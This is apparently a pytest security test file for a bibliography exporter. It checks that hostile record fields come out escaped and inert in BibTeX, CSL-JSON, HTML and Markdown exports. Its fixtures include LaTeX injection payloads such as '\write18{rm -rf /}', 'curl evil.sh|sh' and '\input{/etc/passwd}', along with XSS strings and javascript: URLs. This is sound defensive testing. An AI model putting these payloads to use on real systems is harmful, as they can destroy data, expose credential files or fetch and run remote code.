"""Hostile remote data: every export stays valid and inert.

Records whose title, authors, venue, publisher, pages, identifiers and section carry LaTeX
commands (``\\input``, ``\\write18``), unbalanced braces, ``%``, ``<script>``, MathML, HTML
entities, control characters, ``javascript:`` URLs and a 1 MB title. The exports are checked
structurally here and, when the programs are installed, by real bibtex, biber, pandoc and the
shared validator (CSL schema + citeproc-js). The lead adds the same through the resolve path.
"""

from __future__ import annotations

import json
import logging
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import SHARED

from mlsys_bib.export.bibtex import bibtex_fields, bibtex_text
from mlsys_bib.export.csljson import csl_json_text
from mlsys_bib.export.latex import MAX_FIELD_CHARS, braces_balanced
from mlsys_bib.export.refs import write_refs
from mlsys_bib.model import Kind, Person, Section
from tests.fakes.records import make_record, realistic_records
from tests.integration.test_real_clients import VALIDATOR, needs, run_biber, run_bibtex, run_pandoc, write_all

EVIL_SECTION = Section("9.9", "Evil <script>alert(1)</script> & {section} 100%")
HUGE = "A " + "GPU word " * 120_000  # ~1 MB

HOSTILE_TITLES = {
    "input2024": r"\input{/etc/passwd}",
    "write2024": r"\write18{rm -rf /} and \immediate\write18{curl evil.sh|sh}",
    "openbrace2024": "Unbalanced { brace in {title",
    "closebrace2024": "Closing } first { then",
    "percent2024": "100% of % comments %",
    "script2024": "<script>alert(1)</script> XSS in <img src=x onerror=alert(1)>",
    "mathml2024": '<mml:math xmlns:mml="http://www.w3.org/1998/Math/MathML"><mml:mi>x</mml:mi></mml:math> Scaling',
    "entities2024": '&amp;lt;b&amp;gt; and &lt;i&gt; &#x3C;script&#x3E; <span class="nocase">x</span>',
    "controls2024": "".join(chr(i) for i in range(32)) + "Control\x7f\x85 Chars\u202e",
    "huge2024": HUGE,
}

INJECTION = re.compile(r"\\(input|include|write|immediate|csname|def|openout|catcode|usepackage)\b")


def hostile_records():
    """The hostile cases, each a record of a different kind, plus evil authors/venues/links."""
    kinds = [Kind.PROCEEDINGS, Kind.JOURNAL, Kind.PREPRINT, Kind.CHAPTER, Kind.REPORT]
    records = []
    for i, (key, title) in enumerate(HOSTILE_TITLES.items()):
        records.append(
            make_record(
                key,
                title,
                kinds[i % len(kinds)],
                sections=(EVIL_SECTION,),
                line=1000 + 10 * i,
                author=[
                    Person(r"\input{/etc/passwd}", "<script>alert(1)</script>"),
                    Person("{Smith", "} and {Jones"),
                    Person(literal="Evil } Corp { %"),
                    Person("Ctl\x00\x1b[31m", "\x07Bell"),
                ],
                container_title=r"Proc. of \input{x} % <script>alert(1)</script> }{",
                container_short="}{",
                event_title=r"\write18{x}",
                publisher="Lab & Co {",
                year=2024,
                month=5,
                volume="52}",
                issue="{4",
                pages="1{-2",
                doi="10.1/{x}\\y z",
                arxiv="2401.0000" + str(i),
                primary_class="cs.LG}",
                url="javascript:alert(1)" if i % 2 else 'https://e.org/{x}"><script>alert(1)</script>',
                note=r"\input{/etc/shadow} type: book",
            )
        )
    return records


def all_records():
    return realistic_records() + hostile_records()


# -- BibTeX --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("biblatex", "ascii"), [(False, False), (True, False), (False, True)])
def test_bib_fields_balanced_and_no_command_from_data(biblatex, ascii):
    for record in hostile_records():
        _, items = bibtex_fields(record, biblatex=biblatex, ascii=ascii)
        for name, value in items:
            assert braces_balanced(value), (record.key, name)
            assert not INJECTION.search(value), (record.key, name, value[:200])
            for command in re.findall(r"\\([A-Za-z]+)", value):
                assert command.startswith("text") or len(command) <= 2, (record.key, name, command)
    text = bibtex_text(all_records(), biblatex=biblatex, ascii=ascii)
    assert not INJECTION.search(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text)
    assert len(text) < 250_000  # the 1 MB title is capped


def test_huge_title_is_capped_and_logged(caplog):
    with caplog.at_level(logging.WARNING):
        text = bibtex_text(hostile_records())
    assert "huge2024: title longer than the export limit" in caplog.text
    title = re.search(r"@\w+\{huge2024,\n(?:.*\n)*?  title\s*= \{(.*)\},\n", text).group(1)
    assert title.endswith("\u2026") and len(title) < 3 * MAX_FIELD_CHARS  # braces add to the length


def test_real_bibtex_reads_hostile_bib_and_bbl_has_no_live_command(tmp_path):
    needs("bibtex")
    write_all(all_records(), tmp_path)
    for name in ("mlsys.bib",):
        run = run_bibtex(tmp_path / name)
        assert run.errors == 0, run.log
        assert run.bbl.count("\\bibitem") == len(all_records())
        assert not INJECTION.search(run.bbl)
        assert "\\textbackslash{}input\\{/etc/passwd\\}" in run.bbl


def test_real_bibtex_reads_hostile_ascii_bib(tmp_path):
    needs("bibtex")
    write_all(all_records(), tmp_path, ascii=True)
    run = run_bibtex(tmp_path / "mlsys.bib")
    assert run.errors == 0, run.log
    assert run.bbl.count("\\bibitem") == len(all_records())
    assert not INJECTION.search(run.bbl)


@pytest.mark.parametrize("name", ["mlsys.bib", "mlsys-biblatex.bib"])
def test_real_biber_has_no_errors_on_hostile_bib(tmp_path, name):
    needs("biber")
    write_all(all_records(), tmp_path)
    run = run_biber(tmp_path / name)
    assert run.errors == [] and run.returncode == 0
    # volume "52}" is not an integer: biber drops it with a warning; nothing else may go wrong
    for line in run.warnings:
        assert re.search(r"Missing mandatory field|Invalid value of field 'volume'", line), line


@pytest.mark.parametrize("name", ["mlsys.bib", "mlsys-biblatex.bib", "mlsys.json"])
def test_real_pandoc_renders_every_hostile_entry(tmp_path, name):
    needs("pandoc")
    write_all(all_records(), tmp_path)
    count, text = run_pandoc(tmp_path / name, timeout=60)  # an uncapped 1 MB title takes ~15 min
    assert count == len(all_records())
    assert "passwd" in text  # shown as text, not run


# -- CSL-JSON ------------------------------------------------------------------------------------------


def test_csl_json_stays_valid_and_clean():
    data = json.loads(csl_json_text(all_records()))
    assert len(data) == len(all_records())

    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, list):
            for v in value:
                yield from strings(v)
        elif isinstance(value, dict):
            for v in value.values():
                yield from strings(v)

    for item in data:
        for s in strings(item):
            assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", s), (item["id"], s[:80])
            visible = s.replace('<span class="nocase">', "").replace("</span>", "")
            assert len(visible) <= MAX_FIELD_CHARS + 100
    schema_path = SHARED / "schema" / "csl-data.json"
    jsonschema = pytest.importorskip("jsonschema")
    if schema_path.is_file():
        validator = jsonschema.Draft7Validator(json.loads(schema_path.read_text()))
        assert [e.message for e in validator.iter_errors(data)] == []


def test_shared_validator_passes_on_hostile_exports(tmp_path):
    if not VALIDATOR.is_file():
        pytest.skip(f"validator not found at {VALIDATOR}")
    needs("bibtex", "biber", "pandoc", "node")
    write_all(all_records(), tmp_path)
    proc = subprocess.run(
        ["bash", str(VALIDATOR), str(tmp_path)], capture_output=True, text=True, timeout=600
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "FAIL" not in proc.stdout


# -- reference lists -----------------------------------------------------------------------------------

ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "body",
    "h1",
    "p",
    "ul",
    "li",
    "a",
    "i",
    "b",
    "sup",
    "sub",
    "span",
    "u",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture(scope="module")
def hostile_refs(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile-refs")
    report = write_refs(all_records(), out)
    return out, report


def test_html_has_no_live_markup_from_data(hostile_refs):
    out, _ = hostile_refs
    pages = list((out / "refs").rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text()
        assert "<script" not in text.lower() and "<mml:" not in text.lower() and "<img" not in text.lower()
        parser = _Tags()
        parser.feed(text)
        for tag, attrs in parser.tags:
            assert tag in ALLOWED_TAGS, (page.name, tag)
            assert not any(k.startswith("on") for k in attrs), (page.name, tag, attrs)
            if tag == "a":
                href = attrs["href"] or ""
                assert re.match(r"https?://", href) or re.fullmatch(r"[a-z0-9-]+\.html", href), attrs
            if tag == "span":
                assert attrs == {"style": "font-variant:small-caps"}, attrs
        if page.name != "index.html" and "9-9" in page.name:
            shown = "".join(parser.text)
            assert "<script>alert(1)</script>" in shown  # the data, displayed as text


def test_markdown_has_no_raw_html_or_unsafe_links(hostile_refs):
    out, _ = hostile_refs
    for page in (out / "refs").rglob("*.md"):
        text = page.read_text()
        assert not re.search(r"(?<!\\)<(?!/?su[bp]>)", text), page.name
        assert "](javascript:" not in text
        for url in re.findall(r"\]\(([^)]*)\)", text):
            assert re.match(r"https?://[^\s()<>\"]+$", url) or url.endswith(".md"), url


def test_plain_text_is_plain(hostile_refs):
    out, _ = hostile_refs
    text = (out / "refs" / "apa" / f"{EVIL_SECTION.slug}.txt").read_text()
    assert "<script>alert(1)</script>" in text and "\ue000" not in text
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f]", text)


def test_refs_list_every_hostile_entry_and_stay_small(hostile_refs):
    out, report = hostile_refs
    for style in ("apa", "ieee", "acm"):
        page = (out / "refs" / style / f"{EVIL_SECTION.slug}.html").read_text()
        for key in HOSTILE_TITLES:
            assert f'id="ref-{key}"' in page
        assert len(page) < 200_000
    assert all(isinstance(f.error, str) and f.key and f.style for f in report.failures)


def test_evil_section_title_is_escaped_in_every_format(hostile_refs):
    out, _ = hostile_refs
    index = (out / "refs" / "apa" / "index.md").read_text()
    assert r"Evil \<script\>alert(1)\</script\> \& {section} 100%" in index
    assert Path(out / "refs" / "apa" / f"{EVIL_SECTION.slug}.md").is_file()
